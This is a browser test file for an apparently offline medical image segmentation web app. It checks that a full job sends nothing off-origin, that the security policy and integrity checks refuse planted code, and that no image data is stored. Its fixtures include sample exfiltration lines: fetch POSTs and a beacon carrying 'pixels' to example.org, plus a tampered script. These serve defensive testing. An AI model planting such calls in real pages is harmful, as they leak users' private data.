// Nothing leaves: who is asked for what during a whole job, by three witnesses that do not know of each other.

import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';

import { launch, openWindow } from './chromium.mjs';
import { until } from './delineo.mjs';
import { phantom } from './pictures.mjs';
import { serve } from './server.mjs';

let browser;
let server;
before(async () => {
  [browser, server] = await Promise.all([launch(), serve()]);
});
after(async () => {
  await browser?.close();
  await server?.stop();
});

const picture = phantom('ultrasound', 4, 320, 240);

/** Everything that a person does with one image. */
async function wholeJob(app) {
  await app.segment(picture.file);
  await app.setThreshold(0.4);
  await app.savedMask();
  await app.savedFromMenu('Overlay, PNG');
  await app.savedFromMenu('Probability map');
  await app.about();
}

test('every request of a whole job goes to the page’s own origin, and none is made once it is loaded', async (t) => {
  const app = await openWindow(t, browser, server.origin);
  const requests = [];
  app.page.context().on('request', (request) => requests.push(request.url()));
  await app.open();
  await app.segment(picture.file);
  await app.page.getByText('Works offline').waitFor();
  await until(async () => quiet(requests), 'the end of loading');
  const loaded = requests.length;
  await wholeJob(app);
  const foreign = requests.filter((url) => !url.startsWith(`${server.origin}/`) && !/^(blob|data):/.test(url));
  assert.deepEqual(foreign, []);
  assert.deepEqual(requests.slice(loaded).filter((url) => !url.startsWith('blob:')), []);
});

test('the browser’s own log of its network knows no other host either', async (t) => {
  const folder = mkdtempSync(path.join(tmpdir(), 'delineo-net-'));
  t.after(() => rmSync(folder, { recursive: true, force: true }));
  const log = path.join(folder, 'net.json');
  const logging = await launch({ args: [`--log-net-log=${log}`] });
  const app = await (await openWindow(t, logging, server.origin)).open();
  await wholeJob(app);
  await logging.close();
  // Each request names who began it. The browser's own errands have no origin and, in these tests, no way out.
  const events = readFileSync(log, 'utf8').split('\n').filter((line) => line.includes('"initiator":"http'));
  const hosts = new Set(events.map((line) => new URL(JSON.parse(line.replace(/,$/, '')).params.url).host));
  t.diagnostic(`hosts: ${[...hosts].join(', ')}`);
  assert.deepEqual([...hosts], [new URL(server.origin).host]);
});

for (const where of ['page', 'worker']) {
  test(`a fetch to another site, planted in the ${where}, is refused by the policy`, async (t) => {
    const app = await (await openWindow(t, browser, server.origin)).open();
    await app.segment(picture.file);
    const planted = async () => {
      const refused = new Promise((resolve) => {
        self.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
      });
      const outcome = await fetch('https://example.org/collect', { method: 'POST', body: 'pixels', mode: 'no-cors' }).then(
        () => 'sent',
        () => 'failed',
      );
      const late = new Promise((resolve) => setTimeout(resolve, 3000, 'no violation'));
      return { outcome, directive: await Promise.race([refused, late]) };
    };
    const place = where === 'page' ? app.page : app.page.workers()[0];
    assert.deepEqual(await place.evaluate(planted), { outcome: 'failed', directive: 'connect-src' });
  });
}

test('planted scripts, frames, forms, pictures and beacons are refused as well', async (t) => {
  const app = await (await openWindow(t, browser, server.origin)).open();
  const refused = await app.page.evaluate(async () => {
    const seen = new Set();
    document.addEventListener('securitypolicyviolation', (event) => seen.add(event.effectiveDirective));
    const add = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
    add('script', { src: 'https://example.org/x.js' });
    add('script', { textContent: 'window.planted = true' });
    add('img', { src: 'https://example.org/x.png' });
    add('iframe', { src: 'https://example.org/' });
    add('link', { rel: 'stylesheet', href: 'https://example.org/x.css' });
    add('video', { src: 'https://example.org/x.mp4' });
    navigator.sendBeacon('https://example.org/x', 'pixels');
    const form = Object.assign(document.createElement('form'), { action: 'https://example.org/', method: 'post' });
    document.body.append(form);
    form.submit();
    try {
      new WebSocket('wss://example.org/');
    } catch {
      // Refused at once is refused too.
    }
    await new Promise((resolve) => setTimeout(resolve, 1000));
    return { directives: [...seen].sort(), planted: window.planted === true };
  });
  t.diagnostic(refused.directives.join(', '));
  assert.equal(refused.planted, false);
  for (const directive of ['connect-src', 'form-action', 'frame-src', 'img-src', 'media-src', 'script-src-elem', 'style-src-elem']) {
    assert.ok(refused.directives.includes(directive), directive);
  }
});

test('what the page loads carries its integrity, and a changed script does not run', async (t) => {
  const app = await openWindow(t, browser, server.origin, { serviceWorkers: 'block' });
  await app.page.route('**/page-*.js', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: `${await response.text()}\nwindow.planted = true;` });
  });
  await app.page.goto(server.origin);
  await until(() => app.faults.some((fault) => /integrity/i.test(fault)), 'the browser’s complaint');
  await app.alert.getByText('damaged').waitFor();
  assert.equal(await app.page.evaluate(() => window.planted === true), false);
});

test('nothing is kept of the images', async (t) => {
  const app = await (await openWindow(t, browser, server.origin)).open();
  await wholeJob(app);
  const kept = await app.page.evaluate(async () => ({
    cookies: document.cookie,
    databases: (await indexedDB.databases()).map(({ name }) => name),
    caches: (await caches.keys()).filter((name) => !/^delineo-([0-9a-f]{16}|clients)$/.test(name)),
    clients: await Promise.all((await (await caches.open('delineo-clients')).matchAll()).map((note) => note.text())),
    storage: JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }),
  }));
  assert.equal(kept.cookies, '');
  assert.deepEqual(kept.databases, []);
  assert.ok(!kept.storage.includes('phantom') && kept.storage.length < 2000, kept.storage);
  for (const note of kept.clients) assert.match(note, /^[0-9a-f]{16}$/, 'which page runs which version, and nothing else');
  for (const name of kept.caches) {
    assert.match(name, /^delineo-(own|shared)/);
    assert.deepEqual(await app.page.evaluate(async (cache) => (await (await caches.open(cache)).keys()).length, name), 0);
  }
});

let count = -1;
/** Whether no request was added for a while. */
async function quiet(requests) {
  await new Promise((resolve) => setTimeout(resolve, 1500));
  const same = requests.length === count;
  count = requests.length;
  return same;
}
